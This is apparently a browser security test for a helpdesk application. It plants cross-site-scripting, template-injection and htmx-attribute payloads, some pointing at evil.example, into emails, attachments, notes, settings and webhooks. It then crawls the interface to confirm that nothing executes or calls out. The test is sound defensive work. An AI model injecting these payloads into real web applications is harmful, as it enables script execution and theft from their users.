"""What somebody else wrote is shown as text: the whole desk is walked with hostile words in every place."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from email.message import EmailMessage
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Request

from tests.browser.conftest import PATIENCE_MS
from tests.browser.desk import EMAIL, PASSWORD, is_at, log_in
from tests.service import Home, MaildirOf, Rest, Service, a_mail, rest

pytestmark = pytest.mark.slow

# Ends a text, an attribute, a title, a textarea, a script; holds a template, and attributes that htmx would obey.
EVIL = (
    "x\"'><img src=//evil.example/i onerror=pwned=1></title></textarea></script>"
    '<script>pwned=1</script><b hx-get="//evil.example/h" hx-trigger="load">{{7*7}}${7*7}</b>'
)
SHORT = "\"'><img src=//evil.example/s onerror=pwned=1>{{7*7}}"
TAG = "\"'><img src=x onerror=pwned=1>"
HOOK = "https://evil.example/'onerror=pwned=1//{{7*7}}"
INVITED = "i'<b>@x.example"
# Where words were planted, and must be read again on some page, as they are.
PLACES = (
    *("note", "feedback", "subject", "body", "reason", "category", "meaning", "view", "article", "text", "keyword"),
    *("macro", "rule", "condition", "token", "footer", "signature", "bo"),
)
MOST_PAGES = 220
# What a reader of the page finds on it: its text, what stands in its fields, and what is said of its pictures.
READ = """() => [document.body.textContent,
    ...[...document.querySelectorAll('input, textarea')].map(one => one.value),
    ...[...document.querySelectorAll('[title], [aria-label]')].map(one => one.title + ' ' + one.ariaLabel)].join(' ')"""
QUERY = "?q=" + "%22%3E%3Cscript%3Epwned%3D1%3C%2Fscript%3E"


@dataclass
class Walk:
    """A browser that goes everywhere, and what it saw that must not be."""

    page: Page
    home: str
    seen: set[str] = field(default_factory=set)
    wrong: list[str] = field(default_factory=list)
    words: str = ""

    def __post_init__(self) -> None:
        self.page.on("console", self._on_console)
        self.page.on("pageerror", lambda error: self._tell(f"error {error}"))
        self.page.on("dialog", lambda dialog: (self._tell(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("request", self._on_request)

    def everywhere(self, *starts: str) -> None:
        waiting = list(starts)
        while waiting and len(self.seen) < MOST_PAGES:
            path = waiting.pop(0)
            if path in self.seen:
                continue
            self.seen.add(path)
            waiting += self._links(path)

    def _links(self, path: str) -> list[str]:
        """Open the page, look at it, and find where it leads."""
        answer = self.page.goto(self.home + path, wait_until="load")
        if answer is None or answer.status >= 500:
            self._tell(f"status {answer.status if answer else 'none'}")
        self.page.eval_on_selector_all("details", "all => all.forEach(one => (one.open = true))")
        self.words += " ".join(self.page.evaluate(READ).split())
        if self.page.evaluate("() => window.pwned") is not None:
            self._tell("ran")
        found = self.page.eval_on_selector_all("a[href]:not([download])", "all => all.map(one => one.href)")
        return sorted({where for one in found if (where := self._own(one))})

    def _own(self, address: str) -> str | None:
        parts = urlsplit(address)
        if parts.scheme not in ("http", "https"):
            if parts.scheme not in ("mailto", "tel"):
                self._tell(f"link to {address[:80]}")
            return None
        is_ours = address.startswith(self.home + "/")
        is_file = any(word in parts.path for word in ("/raw", "/attachments/", "/static/", "/document", ".csv"))
        return parts.path + (f"?{parts.query}" if parts.query else "") if is_ours and not is_file else None

    def _on_console(self, message: ConsoleMessage) -> None:
        # Of pages that are not there the browser says so itself.
        if message.type in ("error", "warning") and "status of 404" not in message.text:
            self._tell(f"console: {message.text[:200]}")

    def _on_request(self, request: Request) -> None:
        if not request.url.startswith((self.home, "data:", "about:", "blob:")):
            self._tell(f"asked {request.url[:80]}")

    def _tell(self, what: str) -> None:
        self.wrong.append(f"{urlsplit(self.page.url).path}: {what}")


@dataclass(frozen=True)
class Hostile:
    """A desk whose every word is an attack."""

    service: Service
    rest: Rest
    ticket_id: str


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    home = Home.at(tmp_path_factory.mktemp("hostile"), CA_DESK_NAME=SHORT, CA_UNDO_WINDOW_S="600")
    home.command("operator", "add", EMAIL, "--role", "admin", "--name", SHORT, "--password-stdin", stdin=PASSWORD)
    home.command(
        "operator",
        "add",
        "bo'<b>@x.example",
        "--role",
        "viewer",
        "--name",
        marked("bo"),
        "--password-stdin",
        stdin=PASSWORD,
    )
    token, maildir = home.token("admin", name=SHORT), home.maildir()
    with Service(home) as service:
        client = rest(service, token)
        yield Hostile(service, client, fill(client, maildir))


def marked(place: str) -> str:
    """The attack, bearing the name of its place, by which it is found again on a page."""
    return f"{SHORT[:-7]}{place}"


def fill(client: Rest, maildir: MaildirOf) -> str:
    """Hostile words wherever mail or the interface takes words; the id of the ticket that holds most of them."""
    maildir.deliver(a_hostile_mail())
    maildir.deliver(a_mail("Inverter shows an error"))
    maildir.deliver(a_mail(EVIL, EVIL, "robot <robot@evil.example>", Auto_Submitted="auto-generated"))
    maildir.deliver(b"Subject: " + b"(" * 3000 + EVIL.encode() + b"\r\nFrom: x@evil.example\r\n\r\nquarantine me\r\n")
    client.sync()
    (closed,) = [each["id"] for each in client.tickets() if each["subject"] == "Inverter shows an error"]
    (full,) = [each["id"] for each in client.tickets() if each["requester"]["address"] == "anna@evil.example"]
    around_a_ticket(client, full)
    plant(client, "POST", f"/tickets/{closed}/reject", {"reason": marked("reason")})
    in_the_settings(client)
    return str(full)


def around_a_ticket(client: Rest, ticket_id: str) -> None:
    path = f"/tickets/{ticket_id}"
    plant(client, "POST", f"{path}/notes", {"text": f"{EVIL} {marked('note')} @{EMAIL}"})
    plant(client, "POST", f"{path}/draft?wait_s=60", {"feedback": marked("feedback")})
    revision = client.ticket(ticket_id)["revision"]
    written = {"subject": marked("subject"), "body": f"{EVIL} {marked('body')}", "revision": revision}
    plant(client, "POST", f"{path}/draft", written)
    plant(client, "POST", f"{path}/tags", {"add": [TAG]})


def in_the_settings(client: Rest) -> None:
    plant(client, "POST", "/settings/categories", {"title": marked("category"), "description": marked("meaning")})
    view = {"name": marked("view"), "board": "needs-action", "is_shared": True}
    plant(client, "POST", "/views", view)
    article = {
        "body": f"{EVIL} {marked('text')}",
        "language": "en",
        "category": "other",
        "keywords": [marked("keyword")],
    }
    plant(client, "POST", "/settings/knowledge", article | {"id": "evil", "title": marked("article")})
    plant(client, "POST", "/settings/knowledge", article | {"id": "evil-m", "title": marked("macro"), "is_macro": True})
    rule = {"name": marked("rule"), "subject_has": marked("condition"), "set_category": "other"}
    plant(client, "PUT", "/settings/rules", {"rules": [rule], "version": client.get("/settings/rules")["version"]})
    plant(client, "POST", "/webhooks", {"url": HOOK, "events": ["sent"]})
    plant(client, "POST", "/tokens", {"name": marked("token"), "scopes": ["tickets:read"]})
    plant(client, "POST", "/invitations", {"email": INVITED, "role": "viewer"})
    (mailbox,) = client.get("/mailboxes")["items"]
    plant(client, "PATCH", f"/mailboxes/{mailbox['id']}", {"signature": marked("footer")})


def plant(client: Rest, method: str, path: str, body: object) -> None:
    """Fails the test when the words are not taken: then nothing was tried."""
    answer = client.call(method, path, body)
    assert answer.status < 300, f"{method} {path}: {answer}"


def a_hostile_mail() -> EmailMessage:
    mail = a_mail(EVIL, EVIL, "anna@evil.example")
    del mail["From"]
    mail["From"] = f'"{SHORT.replace(chr(34), "")}" <anna@evil.example>'
    mail["Cc"] = f'"{SHORT.replace(chr(34), "")}" <carl@evil.example>'
    mail["Reply-To"] = f'"{SHORT.replace(chr(34), "")}" <other@elsewhere.example>'
    mail.add_attachment(b"<script>pwned=1</script>", maintype="text", subtype="html", filename=f"{SHORT}.html")
    mail.add_attachment(b"<svg onload=pwned=1>", maintype="image", subtype="svg+xml", filename="a'<img>.svg")
    return mail


def test_no_page_of_the_desk_runs_asks_or_breaks_for_what_others_wrote(browser: Browser, hostile: Hostile) -> None:
    context = browser.new_context(locale="en-GB", viewport={"width": 1280, "height": 900})
    context.set_default_timeout(PATIENCE_MS)
    page = context.new_page()
    log_in(page, hostile.service.url)
    is_at(page, "/boards/needs-action")
    sign_as(page, hostile.service.url, marked("signature"))
    walk = Walk(page, hostile.service.url)

    walk.everywhere(
        "/boards/needs-action",
        f"/boards/tickets/{hostile.ticket_id}",
        f"/boards/search{QUERY}",
        f"/boards/done{QUERY}",
        "/boards/settings",
        "/boards/me",
        "/boards/nowhere",
    )
    context.close()

    assert "\n".join(walk.wrong) == ""
    assert len(walk.seen) > 30
    assert any("/settings/operators/" in path for path in walk.seen)
    unseen = [words for words in (*map(marked, PLACES), TAG, HOOK, INVITED) if words not in walk.words]
    assert unseen == []


def sign_as(page: Page, home: str, words: str) -> None:
    """The one place that only a person fills."""
    page.goto(f"{home}/boards/me")
    page.get_by_label("Signature").fill(words)
    page.locator("form", has=page.get_by_label("Signature")).get_by_role("button").click()
    is_at(page, "/boards/me")
